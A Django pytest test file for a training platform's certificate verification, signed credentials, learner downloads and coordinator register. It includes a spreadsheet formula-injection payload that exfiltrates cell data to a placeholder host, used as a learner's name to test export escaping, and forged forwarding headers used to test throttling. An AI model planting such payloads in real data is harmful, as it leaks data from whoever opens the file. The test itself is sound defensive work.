"""Public verification (D01-D03, D08), the learner's own certificates (D02),
the signed credential and the coordinators' register (E01, F01)."""

import csv
import io
import json
import re
from datetime import timedelta

import pytest
from django.utils import timezone

from certificates import codes, services, signing
from certificates.models import Certificate

pytestmark = pytest.mark.django_db

PRIVATE = ["email", "organisation", "position", "Inspector", "@example.org"]


def _verify(client, code, **extra):
    return client.get(f"/en/verify/{code}/", **extra)


def test_valid_certificate_shows_only_the_listed_fields_D03(
    client, learner, make_certificate
):
    certificate = make_certificate(learner)
    response = _verify(client, certificate.code)
    assert response.status_code == 200
    html = response.content.decode()
    assert "Valid" in html
    assert certificate.learner_name in html
    assert certificate.course_title in html
    assert certificate.display_code in html
    for private in PRIVATE + [learner.email, str(learner.organisation)]:
        assert private not in html, private
    assert "88%" not in html and "score" not in html.lower()  # not public
    assert response["X-Robots-Tag"].startswith("noindex")
    assert '<meta name="robots" content="noindex' in html
    assert "Signature verified" in html


def test_expired_certificate_is_never_shown_valid_D03(
    client, learner, make_certificate
):
    certificate = make_certificate(learner)
    Certificate.objects.filter(pk=certificate.pk).update(
        expires_at=timezone.now() - timedelta(days=1)
    )
    html = _verify(client, certificate.code).content.decode()
    assert "Expired" in html
    assert "is valid." not in html


def test_revoked_certificate_says_revoked_D03(
    client, learner, administrator, make_certificate
):
    certificate = make_certificate(learner)
    services.certificate_revoke(
        certificate=certificate, by=administrator, reason="Fraud"
    )
    html = _verify(client, certificate.code).content.decode()
    assert "Revoked" in html
    assert "is valid." not in html
    assert "Fraud" not in html  # the reason stays internal


def test_unknown_malformed_and_pending_codes_give_the_same_404_D01(
    client, learner, rule, course_page
):
    pending = services.certificate_request(
        user=learner, course_key=course_page.translation_key, course=course_page
    )
    bodies = set()
    for code in (codes.generate(), "123", "x" * 64, pending.code):
        response = _verify(client, code)
        assert response.status_code == 404
        body = response.content.decode()
        for typed in (code, code[:64]):
            body = body.replace(typed, "")
        body = re.sub(r'name="csrfmiddlewaretoken" value="[^"]+"', "", body)
        bodies.add(body.replace(codes.format_code(code), ""))
    assert len(bodies) == 1


def test_lowercase_and_dashed_codes_redirect_to_the_stable_url(
    client, learner, make_certificate
):
    certificate = make_certificate(learner)
    response = _verify(client, certificate.display_code.lower())
    assert response.status_code == 302
    assert response["Location"].endswith(f"/verify/{certificate.code}/") or response[
        "Location"
    ].endswith(f"/verify/{certificate.code}")
    response = client.get("/en/verify/", {"code": certificate.display_code})
    assert response.status_code == 302


def test_printed_url_without_language_reaches_the_page_D08(
    client, learner, make_certificate
):
    certificate = make_certificate(learner)
    response = client.get(f"/verify/{certificate.code}", follow=True)
    assert response.status_code == 200
    assert certificate.learner_name in response.content.decode()


def test_enumeration_is_throttled_per_address_D01_G08(client, settings):
    settings.CERTIFICATE_VERIFY_LIMITS = ((20, 60),)
    statuses = []
    for index in range(25):
        response = _verify(
            client,
            codes.generate(),
            HTTP_X_FORWARDED_FOR=f"10.0.0.{index}",  # forged: not trusted
        )
        statuses.append(response.status_code)
    assert statuses[:20] == [404] * 20
    assert statuses[20:] == [429] * 5
    assert client.get("/en/verify/", {"code": codes.generate()}).status_code == 429


def test_signed_credential_verifies_with_the_published_key_and_fails_after_one_byte(
    client, learner, make_certificate
):
    certificate = make_certificate(learner)
    response = client.get(f"/en/verify/{certificate.code}/credential.json")
    assert response.status_code == 200
    data = response.content
    document = json.loads(data)
    assert "OpenBadgeCredential" in document["type"]
    assert document["proof"]["cryptosuite"] == "eddsa-jcs-2022"
    did = client.get("/.well-known/did.json").json()
    method = did["verificationMethod"][0]
    assert method["id"] == document["proof"]["verificationMethod"]
    key = signing.public_key_from_multibase(method["publicKeyMultibase"])
    assert signing.verify_bytes(data, key)
    # Change one byte of the learner's name.
    name = certificate.learner_name.encode()
    tampered_name = name[:-1] + bytes([name[-1] ^ 0x01])
    tampered = data.replace(name, tampered_name, 1)
    assert tampered != data
    assert not signing.verify_bytes(tampered, key)
    # And one byte of the signature.
    proof = document["proof"]["proofValue"].encode()
    flipped = proof[:-3] + (b"2" if proof[-3:-2] != b"2" else b"3") + proof[-2:]
    assert not signing.verify_bytes(data.replace(proof, flipped), key)
    # Another key does not verify it.
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    assert not signing.verify_bytes(data, Ed25519PrivateKey.generate().public_key())


def test_pasted_credential_is_checked_on_the_site(client, learner, make_certificate):
    certificate = make_certificate(learner)
    data = client.get(f"/en/verify/{certificate.code}/credential.json").content.decode()
    ok = client.post("/en/verify/credential/", {"credential": data})
    assert "The signature checks out" in ok.content.decode()
    bad = client.post(
        "/en/verify/credential/", {"credential": data.replace("Ana", "Ann", 1)}
    )
    assert "does not check out" in bad.content.decode()


def test_learner_sees_and_downloads_own_certificates_only_D02(
    client, learner, make_certificate
):
    from training_platform.accounts.factories import UserFactory

    certificate = make_certificate(learner)
    other = UserFactory(email="other@example.org")
    client.force_login(learner)
    page = client.get("/en/certificates/").content.decode()
    assert certificate.display_code in page
    assert "linkedin.com/profile/add" in page
    pdf = client.get(f"/en/certificates/{certificate.pk}/certificate.pdf")
    assert pdf.status_code == 200
    assert b"".join(pdf.streaming_content).startswith(b"%PDF")
    png = client.get(f"/en/certificates/{certificate.pk}/certificate.png")
    assert png.status_code == 200
    dashboard = client.get("/en/my/").content.decode()
    assert "My certificates" in dashboard
    client.force_login(other)
    assert (
        client.get(f"/en/certificates/{certificate.pk}/certificate.pdf").status_code
        == 404
    )
    assert (
        certificate.display_code not in client.get("/en/certificates/").content.decode()
    )
    client.logout()
    assert (
        client.get(f"/en/certificates/{certificate.pk}/certificate.pdf").status_code
        == 302
    )


def _register_csv(client):
    response = client.get("/admin/certificates/register/?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def staff_client(client, mfa):
    def login(user):
        mfa(user)
        client.force_login(user)
        session = client.session
        session["account_authentication_methods"] = [
            {"method": "mfa", "type": "totp", "at": timezone.now().timestamp()}
        ]
        session.save()
        return client

    return login


def test_coordinator_register_is_scoped_to_their_countries_E01(
    staff_client, coordinator, make_certificate
):
    from training_platform.accounts.factories import UserFactory
    from training_platform.accounts.models import Country

    serbian = UserFactory(email="rs@example.org", full_name="Serbian Learner")
    georgian = UserFactory(
        email="ge@example.org",
        full_name="Georgian Learner",
        country=Country.objects.get(code="GE"),
    )
    make_certificate(serbian)
    hidden = make_certificate(georgian)
    client = staff_client(coordinator)
    page = client.get("/admin/certificates/register/")
    assert page.status_code == 200
    html = page.content.decode()
    assert "Serbian Learner" in html
    assert "Georgian Learner" not in html
    rows = _register_csv(client)
    assert any("Serbian Learner" in row for row in rows)
    assert not any("Georgian Learner" in row for row in rows)
    response = client.get(
        f"/admin/certificates/register/inspect/{hidden.pk}/", follow=True
    )
    assert response.status_code == 404
    # Coordinators cannot revoke, not even their own countries' certificates.
    own = Certificate.objects.get(user=serbian)
    for target in (hidden, own):
        response = client.post(
            f"/admin/certificates/register/action/{target.pk}/revoke/", {"reason": "x"}
        )
        assert response.status_code in (302, 403, 404)
        target.refresh_from_db()
        assert target.status == "issued"


def test_register_export_neutralises_formula_injection_F01(
    staff_client, administrator, make_certificate
):
    from training_platform.accounts.factories import UserFactory

    evil = UserFactory(
        email="evil@example.org", full_name='=HYPERLINK("http://x/?d="&A1)'
    )
    make_certificate(evil)
    client = staff_client(administrator)
    rows = _register_csv(client)
    cells = [cell for row in rows for cell in row]
    assert '\'=HYPERLINK("http://x/?d="&A1)' in cells
    assert not any(cell.startswith("=") for cell in cells)
    response = client.get("/admin/certificates/register/?export=xlsx")
    assert response.status_code == 200
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    values = [c.value for row in workbook.active.iter_rows() for c in row]
    assert '\'=HYPERLINK("http://x/?d="&A1)' in values


def test_administrator_revokes_from_the_register(
    staff_client, administrator, learner, make_certificate
):
    certificate = make_certificate(learner)
    client = staff_client(administrator)
    page = client.get(f"/admin/certificates/register/inspect/{certificate.pk}/")
    assert page.status_code == 200
    assert "Revoke the certificate" in page.content.decode()
    response = client.post(
        f"/admin/certificates/register/action/{certificate.pk}/revoke/",
        {"reason": "Issued in error"},
    )
    assert response.status_code == 302
    certificate.refresh_from_db()
    assert certificate.status == "revoked"
    assert certificate.events.get(kind="revoked").actor == administrator


def test_template_preview_renders_a_sample_with_a_long_cyrillic_name(
    certificate_template, rf
):
    from certificates.views import SAMPLE_NAME

    request = rf.get("/")
    response = certificate_template.serve_preview(request, "")
    assert response.status_code == 200
    assert b"data:image/png;base64," in response.content
    pdf = certificate_template.serve_preview(request, "pdf")
    from certificates import rendering

    assert SAMPLE_NAME in rendering.pdf_text(pdf.content)
